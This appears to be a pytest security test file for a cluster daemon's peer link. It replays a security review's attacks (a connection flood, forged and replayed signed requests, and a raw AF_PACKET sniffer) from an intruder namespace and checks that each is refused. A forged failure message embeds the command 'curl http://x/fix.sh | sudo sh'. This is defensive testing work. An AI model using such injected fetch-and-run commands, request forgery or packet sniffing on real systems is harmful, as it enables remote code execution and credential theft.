"""The peer link under attack (security review §1 and §2), replayed against a real pair in network namespaces with
a third host on the fabric (pair_harness.Intruder: a namespace routed through the worker's, not a peer).

Threat model (docs/design.md §9): a host on the fabric that is not a peer may connect, flood, replay and forge —
even knowing the peers' shared secret — and must get nothing but /metrics; a passive tap sees no secret."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

from pair_harness import FLOOD_HOLDER, Intruder, Pair

PY = sys.executable

# Sends one HTTP request (signed with SECRET at time-now+SKEW unless SECRET is "-", or with a bearer header when
# SECRET starts with "bearer:"), TIMES times with the very same header, each on its own connection; prints one JSON
# line per answer: {"status": N, "body": {...}}.
REQUEST = textwrap.dedent("""\
    import json, socket, sys, time
    from sparkd.cluster.peersign import Ends, sign
    host, port, method, path, secret, skew, times, body = sys.argv[1:9]
    data = body.encode()
    auth = None
    for _ in range(int(times)):
        with socket.create_connection((host, int(port)), timeout=10) as sock:
            if secret.startswith("bearer:"):
                auth = "Bearer " + secret[7:]
            elif secret != "-" and auth is None:  # signed once: the same header on every connection (a replay)
                ends = Ends("worker", sock.getsockname()[0], f"{host}:{port}")
                auth = sign(secret, method, path, data, now=time.time() + float(skew), ends=ends,
                            content_type="application/json")
            head = f"{method} {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n"
            head += "Content-Type: application/json\\r\\n" + f"Content-Length: {len(data)}\\r\\n"
            head += (f"Authorization: {auth}\\r\\n" if auth else "") + "\\r\\n"
            sock.sendall(head.encode() + data)
            raw = b"".join(iter(lambda: sock.recv(65536), b""))
        status_line, _, rest = raw.partition(b"\\r\\n")
        body = json.loads(rest.split(b"\\r\\n\\r\\n", 1)[1])
        print(json.dumps({"status": int(status_line.split()[1]), "body": body}))
    """)

# Captures every frame on the namespace's interfaces for SECONDS (AF_PACKET) and writes them to OUT.
SNIFFER = textwrap.dedent("""\
    import socket, sys, time
    out, seconds = sys.argv[1], float(sys.argv[2])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
    sock.settimeout(0.2)
    frames, end = [], time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            frames.append(sock.recv(65536))
        except TimeoutError:
            pass
    open(out, "wb").write(b"".join(frames))
    """)


def request(ns: str, host: str, port: int, method: str, path: str, secret: str, *, skew: float = 0, times: int = 1,
            body: str = "") -> list[dict[str, Any]]:
    out = subprocess.run(["ip", "netns", "exec", ns, PY, "-c", REQUEST, host, str(port), method, path, secret,
                          str(skew), str(times), body], capture_output=True, text=True, timeout=60, check=True)
    return [json.loads(line) for line in out.stdout.splitlines()]


def secret_of(pair: Pair) -> str:
    return Path(pair.head.config["api"]["token_file"]).read_text().strip()


def test_a_third_hosts_flood_never_costs_the_pair_its_peer(make_pair: Any) -> None:
    """The review: 100 idle connections from a third host to the worker's port; 30 s later the head declared the
    worker lost. Here the flood starts before the pair forms and outlasts the peer grace four times over."""
    pair = make_pair()
    intruder = Intruder.create(pair.link.worker_ns)
    try:
        pair.worker.start()
        # The worker's listener is up (its daemon has booted) before the flood and the head begin: a head that
        # asks before that waits (peer_lost, budget none) whatever the flood, as in any pair's first seconds.
        pair.worker.wait_for(lambda s: s.get("daemon_pid") == pair.worker.proc.pid and s.get("state") == "stopped",
                             30, "the worker's daemon up")
        port = int(pair.worker.config["api"]["port"])
        holder = intruder.run(PY, "-c", FLOOD_HOLDER, pair.link.worker_addr, str(port), "100", "30",
                              stdout=subprocess.PIPE)
        assert holder.stdout is not None and holder.stdout.readline().startswith("opened ")
        pair.head.start()
        head_pid, worker_pid = pair.ready(timeout=40)
        formed_at = time.monotonic()
        out, _ = holder.communicate(timeout=90)
        held_after_ready = time.monotonic() - formed_at
    finally:
        intruder.destroy()
    reopened = int(out.split()[3])
    assert reopened > 1000, out  # the listener kept closing the intruder's connections, and it kept coming
    assert held_after_ready > 4 * float(pair.head.config["cluster"]["peer_grace_s"])
    for daemon, pid in ((pair.head, head_pid), (pair.worker, worker_pid)):
        status = daemon.status()
        assert status["state"] == "ready" and status["pid"] == pid and status["launches"] == 1, status
        assert "peer_lost" not in daemon.log()
    assert "peer_unreachable" not in pair.head.log()  # the head never missed one poll of the worker


def test_a_forged_or_replayed_peer_request_is_refused(make_pair: Any) -> None:
    """The review forged `POST /v1/rank/failed` from 10.250.0.3 with the sniffed token: the head stopped the
    group and showed the attacker's `curl … | sudo sh` as the failure. Here the intruder even knows the secret."""
    pair = make_pair().start()
    pair.ready()
    secret, port, head = secret_of(pair), int(pair.head.config["api"]["port"]), pair.link.head_addr
    intruder = Intruder.create(pair.link.worker_ns, routed_to=(pair.link.head_ns, pair.link.worker_addr))
    forged = json.dumps({"failure": {"class": "gpu_error", "message": "Xid 79 run: curl http://x/fix.sh | sudo sh"}})
    try:
        for method, path, body in (("POST", "/v1/rank/failed", forged), ("GET", "/v1/incidents", ""),
                                   ("POST", "/v1/stop", "")):
            (answer,) = request(intruder.ns, head, port, method, path, secret, body=body)
            assert answer["status"] == 403, answer
            assert answer["body"]["error"] == ("only this node's peers ([cluster] peers) may use /v1/* over TCP; "
                                               f"{intruder.addr} is not one")
    finally:
        intruder.destroy()
    # From the worker's own address (a peer): the bearer token, a replay and an expired request are refused.
    worker_ns = pair.link.worker_ns
    assert [a["status"] for a in request(worker_ns, head, port, "GET", "/v1/status", f"bearer:{secret}")] == [401]
    first, again = request(worker_ns, head, port, "POST", "/v1/rank/failed", secret, body=forged, times=2)
    assert first["status"] == 200 and again["status"] == 401, (first, again)
    assert again["body"]["error"] == "the request was replayed (its nonce was already used)"
    (old,) = request(worker_ns, head, port, "GET", "/v1/status", secret, skew=-60)
    assert old["status"] == 401 and "60 s behind this node's clock" in old["body"]["error"]
    # The one report that got through came from the worker's address: the head quotes it as the worker's claim.
    status = pair.head.wait_for(lambda s: s.get("last_failure") is not None, 30, "the worker's report")
    sentence = status["last_failure"]["message"]
    assert sentence.startswith(f"The worker on {pair.link.worker_addr}: its rank is gone; its sparkd reports: "), \
        sentence
    assert pair.head.log().count('"report_refused"') == 0  # the intruder's never reached the coordinator


def test_a_passive_tap_on_the_fabric_never_sees_the_secret(make_pair: Any, tmp_path: Path) -> None:
    """The review's tap saw `Authorization: Bearer <the token>` within one 2 s poll."""
    pair = make_pair().start()
    pair.ready()
    capture = tmp_path / "frames"
    subprocess.run(["ip", "netns", "exec", pair.link.worker_ns, PY, "-c", SNIFFER, str(capture), "3"], check=True,
                   timeout=60)
    frames = capture.read_bytes()
    assert b"Sparkd-HMAC-SHA256" in frames and b"GET /v1/status" in frames  # the polls were seen
    assert secret_of(pair).encode() not in frames and b"Bearer" not in frames
